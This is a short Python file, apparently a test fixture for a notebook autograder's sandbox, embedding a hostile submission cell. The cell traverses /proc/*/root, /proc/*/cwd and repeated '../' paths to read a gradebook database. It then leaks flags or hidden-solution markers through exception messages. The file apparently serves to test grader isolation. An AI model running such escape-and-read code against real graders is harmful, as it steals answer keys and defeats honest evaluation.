"""Looks for a way out through the folders of processes, and by going up."""

LESSON = "00-start"
POINTS = 0
CELLS = {
    "double": r"""
import os
import re


def leak(data):
    for found in re.findall(rb"flag\{\w+\}|BEGIN (?:SOLUTION|HIDDEN)", data):
        raise RuntimeError("stolen: " + found.decode())


def leak_file(path):
    try:
        with open(path, "rb") as file:
            data = file.read(50_000_000)
    except OSError:
        return
    leak(data)


def double(people):
    import glob

    for way in [*glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd"), "/" + "../" * 30]:
        leak_file(way + "@CLASS@/gradebook.db")
"""
}
